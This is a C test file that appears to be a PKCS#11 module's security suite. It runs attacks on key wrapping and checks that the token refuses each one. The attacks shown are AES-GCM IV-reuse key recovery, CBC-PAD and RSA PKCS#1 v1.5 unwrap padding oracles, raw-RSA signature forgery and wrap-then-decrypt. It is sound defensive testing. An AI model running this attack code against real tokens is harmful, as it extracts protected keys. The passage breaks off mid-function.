/* Attacks on the mechanism policy and key roles (SECURITY.md, "Mechanism
 * policy and key roles"): IV reuse in AES-GCM wrapping, unwrap padding
 * oracles (CBC-PAD, RSA PKCS#1 v1.5), wrap-then-decrypt with a key holding
 * both roles, and a weak key wrapping a strong one. Each attack runs
 * through the PKCS#11 API; it succeeds only if the key it targets is
 * recovered or the oracle it needs answers. */
#include <stdio.h>
#include <string.h>

#include <openssl/evp.h>

#include "sec.h"

#define N(a) (sizeof(a) / sizeof((a)[0]))

static CK_SLOT_ID slot;
static CK_SESSION_HANDLE s;
static CK_BBOOL yes = CK_TRUE, no = CK_FALSE;
static CK_OBJECT_CLASS c_secret = CKO_SECRET_KEY;
static CK_KEY_TYPE k_aes = CKK_AES, k_generic = CKK_GENERIC_SECRET;

static void setup(void)
{
    kt_test_setup();
    CK(P->C_Initialize(NULL));
    slot = kt_test_new_token("policy");
    s = kt_test_user_session(slot);
}

/* Restarts the module with extra configuration (keytier only). */
static void restart(const char *config)
{
    CK(P->C_Finalize(NULL));
    kt_test_write_config(config);
    CK(P->C_Initialize(NULL));
    slot = kt_test_token_slot("policy");
    s = kt_test_user_session(slot);
}

/* A setup step the attack needs: on SoftHSM2 a missing feature makes the
 * attack not applicable; on keytier it must work. */
#define SETUP(call)                                                            \
    do {                                                                       \
        CK_RV setup_rv_ = (call);                                              \
        if (setup_rv_ != CKR_OK) {                                             \
            if (kt_test_is_softhsm()) {                                        \
                char why_[200];                                                \
                snprintf(why_, sizeof(why_), "%s: 0x%lx", #call,               \
                         (unsigned long)setup_rv_);                            \
                SEC_NA(why_);                                                  \
                return;                                                        \
            }                                                                  \
            ck_abort_msg("%s failed: 0x%lx", #call, (unsigned long)setup_rv_); \
        }                                                                      \
    } while (0)

/* An AES key of len bytes generated with the usage attributes in u. */
static CK_RV gen_aes(CK_ULONG len, const CK_ATTRIBUTE *u, CK_ULONG n,
                     CK_OBJECT_HANDLE *out)
{
    CK_ATTRIBUTE t[12] = {{CKA_VALUE_LEN, &len, sizeof(len)},
                          {CKA_TOKEN, &no, 1}};
    CK_ULONG k = 2;
    for (CK_ULONG i = 0; i < n && k < N(t); i++)
        t[k++] = u[i];
    CK_MECHANISM m = {CKM_AES_KEY_GEN, NULL, 0};
    return P->C_GenerateKey(s, &m, t, k, out);
}

/* A session secret key with a known value. */
static CK_RV make_secret(const unsigned char *v, CK_ULONG len, CK_KEY_TYPE kt,
                         const CK_ATTRIBUTE *u, CK_ULONG n,
                         CK_OBJECT_HANDLE *out)
{
    CK_ATTRIBUTE t[14] = {{CKA_CLASS, &c_secret, sizeof(c_secret)},
                          {CKA_KEY_TYPE, &kt, sizeof(kt)},
                          {CKA_VALUE, (void *)v, len},
                          {CKA_TOKEN, &no, 1}};
    CK_ULONG k = 4;
    for (CK_ULONG i = 0; i < n && k < N(t); i++)
        t[k++] = u[i];
    return P->C_CreateObject(s, t, k, out);
}

/* The attacker's proof: a key made from the recovered bytes encrypts like
 * the target key (which has CKA_ENCRYPT; its value is never read). */
static bool recovered(CK_OBJECT_HANDLE target, const unsigned char *v,
                      CK_ULONG len)
{
    if (len != 16 && len != 24 && len != 32)
        return false;
    CK_ATTRIBUTE u[] = {{CKA_ENCRYPT, &yes, 1}};
    CK_OBJECT_HANDLE cand;
    if (make_secret(v, len, CKK_AES, u, N(u), &cand) != CKR_OK)
        return false;
    CK_MECHANISM ecb = {CKM_AES_ECB, NULL, 0};
    unsigned char in[16] = "keytier-probe!!", a[16], b[16];
    CK_ULONG al = 16, bl = 16;
    bool same = P->C_EncryptInit(s, &ecb, target) == CKR_OK &&
                P->C_Encrypt(s, in, 16, a, &al) == CKR_OK &&
                P->C_EncryptInit(s, &ecb, cand) == CKR_OK &&
                P->C_Encrypt(s, in, 16, b, &bl) == CKR_OK && al == 16 &&
                bl == 16 && memcmp(a, b, 16) == 0;
    P->C_DestroyObject(s, cand);
    return same;
}

/* ---- AES-GCM as a wrap mechanism: the IV ---------------------------- */

/* Wraps known key A and secret key B under kek with AES-GCM and one IV:
 * with a caller-chosen IV if the token takes it, else with whatever it
 * returns. c1 ^ c2 ^ A is B when the IVs (hence the keystreams) match. */
static bool gcm_xor_attack(CK_OBJECT_HANDLE kek, CK_OBJECT_HANDLE a,
                           const unsigned char *a_value, CK_OBJECT_HANDLE b,
                           CK_RV *first)
{
    unsigned char iv[12], w1[64], w2[64], guess[32];
    CK_GCM_PARAMS gp = {iv, sizeof(iv), 96, NULL, 0, 128};
    CK_MECHANISM m = {CKM_AES_GCM, &gp, sizeof(gp)};
    CK_ULONG l1 = sizeof(w1), l2 = sizeof(w2);
    memset(iv, 0xa5, sizeof(iv));
    *first = P->C_WrapKey(s, &m, kek, a, w1, &l1);
    bool chosen = *first == CKR_OK;
    if (!chosen) {
        /* the token's own IV, returned in the buffer */
        memset(iv, 0, sizeof(iv));
        l1 = sizeof(w1);
        if (P->C_WrapKey(s, &m, kek, a, w1, &l1) != CKR_OK)
            return false;
    }
    memset(iv, chosen ? 0xa5 : 0, sizeof(iv));
    if (P->C_WrapKey(s, &m, kek, b, w2, &l2) != CKR_OK || l1 < 32 || l2 < 32)
        return false;
    for (int i = 0; i < 32; i++)
        guess[i] = w1[i] ^ w2[i] ^ a_value[i];
    return recovered(b, guess, 32);
}

START_TEST(test_gcm_wrap_iv_reuse_xor)
{
    unsigned char av[32];
    memset(av, 0x3c, sizeof(av));
    CK_ATTRIBUTE wrap_only[] = {{CKA_WRAP, &yes, 1},
                                {CKA_UNWRAP, &yes, 1},
                                {CKA_ENCRYPT, &no, 1},
                                {CKA_DECRYPT, &no, 1}};
    CK_ATTRIBUTE known[] = {{CKA_EXTRACTABLE, &yes, 1},
                            {CKA_SENSITIVE, &no, 1},
                            {CKA_ENCRYPT, &yes, 1}};
    CK_ATTRIBUTE target[] = {{CKA_EXTRACTABLE, &yes, 1},
                             {CKA_SENSITIVE, &yes, 1},
                             {CKA_ENCRYPT, &yes, 1}};
    CK_OBJECT_HANDLE kek, a, b;
    SETUP(gen_aes(32, wrap_only, N(wrap_only), &kek));
    SETUP(make_secret(av, 32, CKK_AES, known, N(known), &a));
    SETUP(gen_aes(32, target, N(target), &b));
    CK_RV first;
    bool got = gcm_xor_attack(kek, a, av, b, &first);
    if (first == CKR_MECHANISM_INVALID && kt_test_is_softhsm()) {
        SEC_NA("no AES-GCM wrapping");
        return;
    }
    SEC_REFUSED(!got, "two AES-GCM wraps under one IV: c1 ^ c2 ^ A = B");
}
END_TEST

/* The same under a trusted wrap-only key (made by the SO), against a
 * sensitive key that may leave only under a trusted key. */
START_TEST(test_gcm_wrap_iv_reuse_trusted)
{
    CK_SESSION_HANDLE so;
    CK_OBJECT_HANDLE trusted, a, b;
    unsigned char tv[32], av[32];
    memset(tv, 0x11, sizeof(tv));
    memset(av, 0x5a, sizeof(av));
    CK(P->C_Logout(s));
    CK(P->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL,
                        &so));
    CK(P->C_Login(so, CKU_SO, (CK_UTF8CHAR_PTR)SO_PIN, strlen(SO_PIN)));
    CK_ATTRIBUTE tt[] = {{CKA_CLASS, &c_secret, sizeof(c_secret)},
                         {CKA_KEY_TYPE, &k_aes, sizeof(k_aes)},
                         {CKA_VALUE, tv, sizeof(tv)},
                         {CKA_TOKEN, &yes, 1},
                         {CKA_PRIVATE, &no, 1},
                         {CKA_TRUSTED, &yes, 1},
                         {CKA_WRAP, &yes, 1},
                         {CKA_ENCRYPT, &no, 1},
                         {CKA_DECRYPT, &no, 1}};
    CK_RV rv = P->C_CreateObject(so, tt, N(tt), &trusted);
    CK(P->C_Logout(so));
    CK(P->C_CloseSession(so));
    CK(P->C_Login(s, CKU_USER, (CK_UTF8CHAR_PTR)USER_PIN, strlen(USER_PIN)));
    SETUP(rv);
    CK_ATTRIBUTE known[] = {{CKA_EXTRACTABLE, &yes, 1},
                            {CKA_SENSITIVE, &no, 1},
                            {CKA_ENCRYPT, &yes, 1}};
    CK_ATTRIBUTE target[] = {{CKA_EXTRACTABLE, &yes, 1},
                             {CKA_SENSITIVE, &yes, 1},
                             {CKA_WRAP_WITH_TRUSTED, &yes, 1},
                             {CKA_ENCRYPT, &yes, 1}};
    SETUP(make_secret(av, 32, CKK_AES, known, N(known), &a));
    SETUP(gen_aes(32, target, N(target), &b));
    CK_RV first;
    bool got = gcm_xor_attack(trusted, a, av, b, &first);
    if (first == CKR_MECHANISM_INVALID && kt_test_is_softhsm()) {
        SEC_NA("no AES-GCM wrapping");
        return;
    }
    SEC_REFUSED(!got, "GCM IV reuse under a trusted wrap-only key recovers a "
                      "CKA_WRAP_WITH_TRUSTED key");
}
END_TEST

/* A one-byte IV: GHASH-derived counters, collisions after a few thousand
 * wraps. */
START_TEST(test_gcm_wrap_short_iv)
{
    CK_ATTRIBUTE wrap_only[] = {
        {CKA_WRAP, &yes, 1}, {CKA_ENCRYPT, &no, 1}, {CKA_DECRYPT, &no, 1}};
    CK_ATTRIBUTE ext[] = {{CKA_EXTRACTABLE, &yes, 1}};
    CK_OBJECT_HANDLE kek, a;
    SETUP(gen_aes(32, wrap_only, N(wrap_only), &kek));
    SETUP(gen_aes(32, ext, N(ext), &a));
    unsigned char iv[1] = {7}, w[64];
    CK_GCM_PARAMS gp = {iv, 1, 8, NULL, 0, 128};
    CK_MECHANISM m = {CKM_AES_GCM, &gp, sizeof(gp)};
    CK_ULONG wl = sizeof(w);
    CK_RV rv = P->C_WrapKey(s, &m, kek, a, w, &wl);
    if (rv == CKR_MECHANISM_INVALID && kt_test_is_softhsm()) {
        SEC_NA("no AES-GCM wrapping");
        return;
    }
    SEC_REFUSED(rv != CKR_OK, "AES-GCM wrap with a one-byte IV");
}
END_TEST

/* ---- unwrap oracles -------------------------------------------------- */

/* Flips the last byte of the next-to-last ciphertext block of a CBC-PAD
 * blob through all 256 values: that byte XORs into the last padding byte.
 * The oracle exists if the answers tell valid from invalid padding. */
static int cbc_pad_answers(CK_OBJECT_HANDLE kek, const unsigned char *blob,
                           CK_ULONG len, CK_RV seen[4])
{
    unsigned char iv[16] = {0}, b[64];
    CK_MECHANISM m = {CKM_AES_CBC_PAD, iv, sizeof(iv)};
    /* a generic secret takes any length: valid padding gives CKR_OK */
    CK_ATTRIBUTE t[] = {{CKA_CLASS, &c_secret, sizeof(c_secret)},
                        {CKA_KEY_TYPE, &k_generic, sizeof(k_generic)},
                        {CKA_TOKEN, &no, 1}};
    int n = 0;
    for (int g = 0; g < 256; g++) {
        memcpy(b, blob, len);
        b[len - 17] ^= (unsigned char)g;
        CK_OBJECT_HANDLE out = CK_INVALID_HANDLE;
        CK_RV rv = P->C_UnwrapKey(s, &m, kek, b, len, t, N(t), &out);
        if (rv == CKR_OK)
            P->C_DestroyObject(s, out);
        bool known = false;
        for (int i = 0; i < n; i++)
            known |= seen[i] == rv;
        if (!known && n < 4)
            seen[n++] = rv;
    }
    return n;
}

/* Makes a wrap-only key (CKA_UNWRAP, not CKA_DECRYPT) and a CBC-PAD blob
 * of a 32-byte key under it; returns false if the token cannot. */
static CK_RV cbc_pad_setup(CK_OBJECT_HANDLE *kek, unsigned char blob[64],
                           CK_ULONG *len)
{
    CK_ATTRIBUTE wrap_only[] = {{CKA_WRAP, &yes, 1},
                                {CKA_UNWRAP, &yes, 1},
                                {CKA_ENCRYPT, &no, 1},
                                {CKA_DECRYPT, &no, 1}};
    CK_ATTRIBUTE ext[] = {{CKA_EXTRACTABLE, &yes, 1}};
    CK_OBJECT_HANDLE d;
    CK_RV rv = gen_aes(32, wrap_only, N(wrap_only), kek);
    if (rv == CKR_OK)
        rv = gen_aes(32, ext, N(ext), &d);
    unsigned char iv[16] = {0};
    CK_MECHANISM m = {CKM_AES_CBC_PAD, iv, sizeof(iv)};
    *len = 64;
    if (rv == CKR_OK)
        rv = P->C_WrapKey(s, &m, *kek, d, blob, len);
    if (rv == CKR_OK && *len != 48)
        rv = CKR_GENERAL_ERROR;
    return rv;
}

START_TEST(test_cbc_pad_unwrap_padding_oracle)
{
    CK_OBJECT_HANDLE kek;
    unsigned char blob[64];
    CK_ULONG len;
    SETUP(cbc_pad_setup(&kek, blob, &len));
    /* the key may not decrypt: only the unwrap answers could leak */
    CK_MECHANISM dm = {CKM_AES_CBC_PAD, blob, 16};
    RV(CKR_KEY_FUNCTION_NOT_PERMITTED, P->C_DecryptInit(s, &dm, kek));
    CK_RV seen[4];
    int n = cbc_pad_answers(kek, blob, len, seen);
    SEC_REFUSED(n == 1 && seen[0] != CKR_OK,
                "CBC-PAD unwrap tells valid from invalid padding (a "
                "byte-by-byte decryption oracle on a key without "
                "CKA_DECRYPT)");
    if (!kt_test_is_softhsm())
        ck_assert_uint_eq(seen[0], CKR_MECHANISM_INVALID);
}
END_TEST

/* The attack code finds the oracle where it exists: keytier with
 * legacy_mechanisms = yes answers as the module did before (SoftHSM2's
 * answer is the line the test above prints). */
START_TEST(test_cbc_pad_padding_oracle_exists_with_legacy)
{
    if (kt_test_is_softhsm()) {
        SEC_NA("a keytier configuration; see test_cbc_pad_unwrap_padding_"
               "oracle for SoftHSM2");
        return;
    }
    restart("legacy_mechanisms = yes\n");
    CK_OBJECT_HANDLE kek;
    unsigned char blob[64];
    CK_ULONG len;
    CK(cbc_pad_setup(&kek, blob, &len));
    CK_RV seen[4];
    int n = cbc_pad_answers(kek, blob, len, seen);
    ck_assert_msg(n >= 2, "legacy CBC-PAD unwrap should be an oracle");
    bool ok = false, invalid = false;
    for (int i = 0; i < n; i++) {
        ok |= seen[i] == CKR_OK;
        invalid |= seen[i] == CKR_WRAPPED_KEY_INVALID;
    }
    ck_assert(ok && invalid);
}
END_TEST

/* RSA PKCS#1 v1.5 unwrap on a private key with CKA_UNWRAP only: a valid
 * and an invalid block must not be told apart (Bleichenbacher), and the
 * private-key operation must not be served at all. */
START_TEST(test_rsa_pkcs_unwrap_bleichenbacher)
{
    CK_MECHANISM gen = {CKM_RSA_PKCS_KEY_PAIR_GEN, NULL, 0};
    CK_ULONG bits = 2048;
    CK_BYTE e[] = {1, 0, 1};
    CK_ATTRIBUTE pt[] = {{CKA_MODULUS_BITS, &bits, sizeof(bits)},
                         {CKA_PUBLIC_EXPONENT, e, sizeof(e)},
                         {CKA_WRAP, &yes, 1},
                         {CKA_ENCRYPT, &no, 1},
                         {CKA_VERIFY, &no, 1}};
    CK_ATTRIBUTE vt[] = {{CKA_UNWRAP, &yes, 1},
                         {CKA_DECRYPT, &no, 1},
                         {CKA_SIGN, &no, 1},
                         {CKA_SENSITIVE, &yes, 1},
                         {CKA_EXTRACTABLE, &no, 1}};
    CK_OBJECT_HANDLE pub, priv, d;
    SETUP(P->C_GenerateKeyPair(s, &gen, pt, N(pt), vt, N(vt), &pub, &priv));
    CK_ATTRIBUTE ext[] = {{CKA_EXTRACTABLE, &yes, 1}};
    SETUP(gen_aes(32, ext, N(ext), &d));
    CK_MECHANISM m = {CKM_RSA_PKCS, NULL, 0};
    RV(CKR_KEY_FUNCTION_NOT_PERMITTED, P->C_DecryptInit(s, &m, priv));
    unsigned char good[512], bad[512];
    CK_ULONG gl = sizeof(good);
    SETUP(P->C_WrapKey(s, &m, pub, d, good, &gl));
    /* the same block with its padding broken */
    memcpy(bad, good, gl);
    bad[gl / 2] ^= 0x40;
    CK_ATTRIBUTE t[] = {{CKA_CLASS, &c_secret, sizeof(c_secret)},
                        {CKA_KEY_TYPE, &k_generic, sizeof(k_generic)},
                        {CKA_TOKEN, &no, 1}};
    CK_OBJECT_HANDLE o1 = CK_INVALID_HANDLE, o2 = CK_INVALID_HANDLE;
    CK_RV r_good = P->C_UnwrapKey(s, &m, priv, good, gl, t, N(t), &o1);
    CK_RV r_bad = P->C_UnwrapKey(s, &m, priv, bad, gl, t, N(t), &o2);
    SEC_REFUSED(r_good != CKR_OK && r_good == r_bad,
                "RSA PKCS#1 v1.5 unwrap answers a conforming block "
                "differently from a non-conforming one (Bleichenbacher), "
                "with neither CKA_DECRYPT nor CKA_SIGN");
    if (!kt_test_is_softhsm())
        ck_assert_uint_eq(r_good, CKR_MECHANISM_INVALID);
}
END_TEST

/* Raw RSA (CKM_RSA_X_509) as an unwrap mechanism would hand the raw
 * private-key operation to whoever may unwrap: the "unwrapped" secret is
 * c^d mod n for a c of the attacker's choosing, readable when the template
 * asks for an extractable, non-sensitive key. With c an EMSA-PKCS1-v1_5
 * block it is a signature the key (CKA_SIGN false) never made. Refused
 * with and without legacy_mechanisms. */
static void rsa_x509_unwrap_forge(const char *test)
{
    CK_MECHANISM gen = {CKM_RSA_PKCS_KEY_PAIR_GEN, NULL, 0};
    CK_ULONG bits = 2048;
    CK_ATTRIBUTE pt[] = {{CKA_MODULUS_BITS, &bits, sizeof(bits)},
                         {CKA_WRAP, &yes, 1},
                         {CKA_VERIFY, &yes, 1}};
    CK_ATTRIBUTE vt[] = {
        {CKA_UNWRAP, &yes, 1}, {CKA_DECRYPT, &no, 1}, {CKA_SIGN, &no, 1}};
    CK_OBJECT_HANDLE pub, priv, o = CK_INVALID_HANDLE;
    SETUP(P->C_GenerateKeyPair(s, &gen, pt, N(pt), vt, N(vt), &pub, &priv));
    /* EMSA-PKCS1-v1_5 for a 32-byte "digest" (no DigestInfo needed for
     * CKM_RSA_PKCS verification of raw data) */
    unsigned char c[256], v[256];
    memset(c, 0xff, sizeof(c));
    c[0] = 0x00;
    c[1] = 0x01;
    c[256 - 33] = 0x00;
    memset(c + 256 - 32, 0x5a, 32);
    CK_ATTRIBUTE t[] = {{CKA_CLASS, &c_secret, sizeof(c_secret)},
                        {CKA_KEY_TYPE, &k_generic, sizeof(k_generic)},
                        {CKA_TOKEN, &no, 1},
                        {CKA_SENSITIVE, &no, 1},
                        {CKA_EXTRACTABLE, &yes, 1}};
    CK_MECHANISM raw = {CKM_RSA_X_509, NULL, 0};
    CK_RV r = P->C_UnwrapKey(s, &raw, priv, c, 256, t, N(t), &o);
    bool forged = false;
    if (r == CKR_OK) {
        CK_ATTRIBUTE g = {CKA_VALUE, v, sizeof(v)};
        CK_MECHANISM pk = {CKM_RSA_PKCS, NULL, 0};
        forged = P->C_GetAttributeValue(s, o, &g, 1) == CKR_OK &&
                 P->C_VerifyInit(s, &pk, pub) == CKR_OK &&
                 P->C_Verify(s, c + 256 - 32, 32, v, g.ulValueLen) == CKR_OK;
    }
    sec_outcome(test, !forged,
                "CKM_RSA_X_509 unwrap serves the raw private-key operation: "
                "a signature forged with a key that may neither sign nor "
                "decrypt");
    if (!kt_test_is_softhsm())
        ck_assert_uint_eq(r, CKR_MECHANISM_INVALID);
}

START_TEST(test_rsa_x509_unwrap_forges_signature)
{
    rsa_x509_unwrap_forge(__func__);
}
END_TEST

START_TEST(test_rsa_x509_unwrap_forges_signature_legacy)
{
    if (kt_test_is_softhsm()) {
        SEC_NA("a keytier configuration; see "
               "test_rsa_x509_unwrap_forges_signature for SoftHSM2");
        return;
    }
    restart("legacy_mechanisms = yes\n");
    rsa_x509_unwrap_forge(__func__);
}
END_TEST

/* ---- key roles --------------------------------------------------------- */

/* RFC 3394 unwrapping done by the attacker with single-block AES-ECB
 * decryptions under k (for a token that does not decrypt with
 * CKM_AES_KEY_WRAP itself). */
static bool kw_unwrap_with_ecb(CK_OBJECT_HANDLE k, const unsigned char *c,
                               CK_ULONG len, unsigned char *p, CK_ULONG *pl)
{
    if (len < 24 || len % 8 != 0 || len > 72)
        return false;
    size_t n = len / 8 - 1;
    unsigned char a[8], r[8][8], b[16], o[16];
    memcpy(a, c, 8);
    for (size_t i = 0; i < n; i++)
        memcpy(r[i], c + 8 * (i + 1), 8);
    CK_MECHANISM ecb = {CKM_AES_ECB, NULL, 0};
    for (int j = 5; j >= 0; j--)
        for (size_t i = n; i >= 1; i--) {
            unsigned long long t = (unsigned long long)n * (unsigned)j + i;
            memcpy(b, a, 8);
            for (int x = 0; x < 8; x++)
                b[7 - x] ^= (unsigned char)(t >> (8 * x));
            memcpy(b + 8, r[i - 1], 8);
            CK_ULONG ol = sizeof(o);
            if (P->C_DecryptInit(s, &ecb, k) != CKR_OK ||
                P->C_Decrypt(s, b, 16, o, &ol) != CKR_OK || ol != 16)
                return false;
            memcpy(a, o, 8);
            memcpy(r[i - 1], o + 8, 8);
        }
    static const unsigned char iv[8] = {0xa6, 0xa6, 0xa6, 0xa6,
                                        0xa6, 0xa6, 0xa6, 0xa6};
    if (memcmp(a, iv, 8) != 0)
        return false;
    for (size_t i = 0; i < n; i++)
        memcpy(p + 8 * i, r[i], 8);
    *pl = n * 8;
    return true;
}

/* Wraps target (sensitive, extractable) under k and decrypts the blob with
 * k: succeeds if the plaintext is target's value. */
static bool wrap_then_decrypt(CK_OBJECT_HANDLE k, CK_OBJECT_HANDLE target)
{
    static const CK_MECHANISM_TYPE mechs[] = {
        CKM_AES_KEY_WRAP_PAD, CKM_AES_KEY_WRAP, CKM_AES_CBC_PAD};
    unsigned char iv[16] = {0};
    for (size_t i = 0; i < N(mechs); i++) {
        CK_MECHANISM m = {mechs[i], NULL, 0};
        if (mechs[i] == CKM_AES_CBC_PAD) {
            m.pParameter = iv;
            m.ulParameterLen = sizeof(iv);
        }
        unsigned char w[128], p[128];
        CK_ULONG wl = sizeof(w), pl = sizeof(p);
        if (P->C_WrapKey(s, &m, k, target, w, &wl) != CKR_OK)
            continue;
        bool plain = P->C_DecryptInit(s, &m, k) == CKR_OK &&
                     P->C_Decrypt(s, w, wl, p, &pl) == CKR_OK;
        if (!plain && mechs[i] == CKM_AES_KEY_WRAP)
            plain = kw_unwrap_with_ecb(k, w, wl, p, &pl);
        if (plain && recovered(target, p, pl))
            return true;
    }
    return false;
}

static CK_RV sensitive_target(CK_OBJECT_HANDLE *out)
{
    CK_ATTRIBUTE t[] = {{CKA_EXTRACTABLE, &yes, 1},
                        {CKA_SENSITIVE, &yes, 1},
                        {CKA_ENCRYPT, &yes, 1}};
    return gen_aes(32, t, N(t), out);
}

/* The classic: a key generated with no usage attributes wraps a sensitive
 * key and decrypts the blob. */
START_TEST(test_wrap_then_decrypt_default_key)
{
    CK_OBJECT_HANDLE k, target;
    SETUP(gen_aes(32, NULL, 0, &k));
    SETUP(sensitive_target(&target));
    SEC_REFUSED(!wrap_then_decrypt(k, target),
                "a key made with no usage attributes wraps a sensitive key "
                "and decrypts the blob");
}
END_TEST

/* Every way to give one key both roles: a template, C_SetAttributeValue
 * either way, C_CopyObject, and C_UnwrapKey (its template and the
 * unwrapping key's CKA_UNWRAP_TEMPLATE). */
START_TEST(test_wrap_then_decrypt_second_role)
{
    CK_OBJECT_HANDLE target, k;
    SETUP(sensitive_target(&target));
    CK_ATTRIBUTE both[] = {{CKA_WRAP, &yes, 1},
                           {CKA_UNWRAP, &yes, 1},
                           {CKA_ENCRYPT, &yes, 1},
                           {CKA_DECRYPT, &yes, 1}};
    CK_RV rv = gen_aes(32, both, N(both), &k);
    SEC_REFUSED(rv != CKR_OK || !wrap_then_decrypt(k, target),
                "C_GenerateKey with CKA_WRAP and CKA_DECRYPT, then "
                "wrap-then-decrypt");
    unsigned char kv[32];
    memset(kv, 0x77, sizeof(kv));
    rv = make_secret(kv, 32, CKK_AES, both, N(both), &k);
    SEC_REFUSED(rv != CKR_OK || !wrap_then_decrypt(k, target),
                "C_CreateObject with both roles, then wrap-then-decrypt");

    CK_ATTRIBUTE wrap_only[] = {{CKA_WRAP, &yes, 1},
                                {CKA_UNWRAP, &yes, 1},
                                {CKA_ENCRYPT, &no, 1},
                                {CKA_DECRYPT, &no, 1}};
    CK_ATTRIBUTE crypt_only[] = {{CKA_WRAP, &no, 1},
                                 {CKA_UNWRAP, &no, 1},
                                 {CKA_ENCRYPT, &yes, 1},
                                 {CKA_DECRYPT, &yes, 1}};
    CK_OBJECT_HANDLE w, c, copy;
    SETUP(gen_aes(32, wrap_only, N(wrap_only), &w));
    CK_ATTRIBUTE dec_on[] = {{CKA_DECRYPT, &yes, 1}};
    rv = P->C_SetAttributeValue(s, w, dec_on, N(dec_on));
    SEC_REFUSED(rv != CKR_OK || !wrap_then_decrypt(w, target),
                "C_SetAttributeValue CKA_DECRYPT on a wrapping key, then "
                "wrap-then-decrypt");
    SETUP(gen_aes(32, crypt_only, N(crypt_only), &c));
    CK_ATTRIBUTE wrap_on[] = {{CKA_WRAP, &yes, 1}};
    rv = P->C_SetAttributeValue(s, c, wrap_on, N(wrap_on));
    SEC_REFUSED(rv != CKR_OK || !wrap_then_decrypt(c, target),
                "C_SetAttributeValue CKA_WRAP on a decryption key, then "
                "wrap-then-decrypt");
    SETUP(gen_aes(32, wrap_only, N(wrap_only), &w));
    rv = P->C_CopyObject(s, w, dec_on, N(dec_on), &copy);
    SEC_REFUSED(rv != CKR_OK || !wrap_then_decrypt(copy, target),
                "C_CopyObject of a wrapping key with CKA_DECRYPT, then "
                "wrap-then-decrypt");

    /* C_UnwrapKey making a key with both roles */
    CK_ATTRIBUTE ext[] = {{CKA_EXTRACTABLE, &yes, 1}};
    CK_OBJECT_HANDLE d, u;
    SETUP(gen_aes(32, ext, N(ext), &d));
    unsigned char blob[64];
    CK_ULONG bl = sizeof(blob);
    CK_MECHANISM kwp = {CKM_AES_KEY_WRAP_PAD, NULL, 0};
    SETUP(P->C_WrapKey(s, &kwp, w, d, blob, &bl));
    CK_ATTRIBUTE ut[] = {{CKA_CLASS, &c_secret, sizeof(c_secret)},
                         {CKA_KEY_TYPE, &k_aes, sizeof(k_aes)},
                         {CKA_TOKEN, &no, 1},
                         {CKA_WRAP, &yes, 1},
                         {CKA_DECRYPT, &yes, 1}};
    rv = P->C_UnwrapKey(s, &kwp, w, blob, bl, ut, N(ut), &u);
    SEC_REFUSED(rv != CKR_OK || !wrap_then_decrypt(u, target),
                "C_UnwrapKey template with both roles, then "
                "wrap-then-decrypt");
    /* an unwrapping key whose CKA_UNWRAP_TEMPLATE forces both roles */
    CK_ATTRIBUTE forced[] = {{CKA_WRAP, &yes, 1}, {CKA_DECRYPT, &yes, 1}};
    CK_ATTRIBUTE fk[] = {{CKA_UNWRAP, &yes, 1},
                         {CKA_WRAP, &yes, 1},
                         {CKA_UNWRAP_TEMPLATE, forced, sizeof(forced)}};
    CK_OBJECT_HANDLE f;
    unsigned char fv[32];
    memset(fv, 0x29, sizeof(fv));
    SETUP(make_secret(fv, 32, CKK_AES, fk, N(fk), &f));
    bl = sizeof(blob);
    SETUP(P->C_WrapKey(s, &kwp, f, d, blob, &bl));
    rv = P->C_UnwrapKey(s, &kwp, f, blob, bl, ut, 3, &u);
    SEC_REFUSED(rv != CKR_OK || !wrap_then_decrypt(u, target),
                "CKA_UNWRAP_TEMPLATE forcing both roles, then "
                "wrap-then-decrypt");
}
END_TEST

/* ---- a weak key wrapping a strong one -------------------------------- */

/* An AES-128 key wraps an AES-256 key (the blob is then only as strong as
 * 128 bits), and an AES-256 key comes in under an AES-128 key. */
START_TEST(test_weak_wrapping_key)
{
    CK_ATTRIBUTE wrap_only[] = {{CKA_WRAP, &yes, 1},
                                {CKA_UNWRAP, &yes, 1},
                                {CKA_ENCRYPT, &no, 1},
                                {CKA_DECRYPT, &no, 1}};
    CK_OBJECT_HANDLE w128, target, u128;
    SETUP(gen_aes(16, wrap_only, N(wrap_only), &w128));
    SETUP(sensitive_target(&target));
    CK_MECHANISM kwp = {CKM_AES_KEY_WRAP_PAD, NULL, 0};
    unsigned char w[64];
    CK_ULONG wl = sizeof(w);
    CK_RV rv = P->C_WrapKey(s, &kwp, w128, target, w, &wl);
    SEC_REFUSED(rv != CKR_OK, "an AES-128 key wraps an AES-256 key");
    if (!kt_test_is_softhsm())
        ck_assert_uint_eq(rv, CKR_WRAPPING_KEY_SIZE_RANGE);

    /* the blob made outside (RFC 5649 under a known AES-128 key) */
    unsigned char kv[16], value[32], blob[48];
    memset(kv, 0x42, sizeof(kv));
    memset(value, 0x24, sizeof(value));
    EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
    int l1 = 0, l2 = 0;
    EVP_CIPHER_CTX_set_flags(ctx, EVP_CIPHER_CTX_FLAG_WRAP_ALLOW);
    ck_assert(EVP_EncryptInit_ex(ctx, EVP_aes_128_wrap_pad(), NULL, kv, NULL));
    ck_assert(EVP_EncryptUpdate(ctx, blob, &l1, value, sizeof(value)));
    ck_assert(EVP_EncryptFinal_ex(ctx, blob + l1, &l2));
    EVP_CIPHER_CTX_free(ctx);
    ck_assert_int_eq(l1 + l2, 40);
    SETUP(make_secret(kv, 16, CKK_AES, wrap_only, N(wrap_only), &u128));
    CK_ATTRIBUTE t[] = {{CKA_CLASS, &c_secret, sizeof(c_secret)},
                        {CKA_KEY_TYPE, &k_aes, sizeof(k_aes)},
                        {CKA_TOKEN, &no, 1}};
    CK_OBJECT_HANDLE out = CK_INVALID_HANDLE;
    rv = P->C_UnwrapKey(s, &kwp, u128, blob, 40, t, N(t), &out);
    SEC_REFUSED(rv != CKR_OK, "an AES-256 key unwrapped under an AES-128 key");
    if (!kt_test_is_softhsm()) {
        ck_assert_uint_eq(rv, CKR_UNWRAPPING_KEY_SIZE_RANGE);
        ck_assert_uint_eq(out, CK_INVALID_HANDLE);
    }
}
END_TEST

/* ---- *_ENCRYPT_DATA with a key-encryption key ---------------------- */

/* E_K(block) through C_DeriveKey(CKM_AES_ECB_ENCRYPT_DATA, or CBC with a
 * zero IV): the derived key's value is the ciphertext. */
static CK_RV encrypt_data_oracle(CK_OBJECT_HANDLE k, bool cbc,
                                 const unsigned char in[16],
                                 unsigned char out[16])
{
    CK_KEY_TYPE kt = CKK_GENERIC_SECRET;
    CK_ATTRIBUTE t[] = {{CKA_CLASS, &c_secret, sizeof(c_secret)},
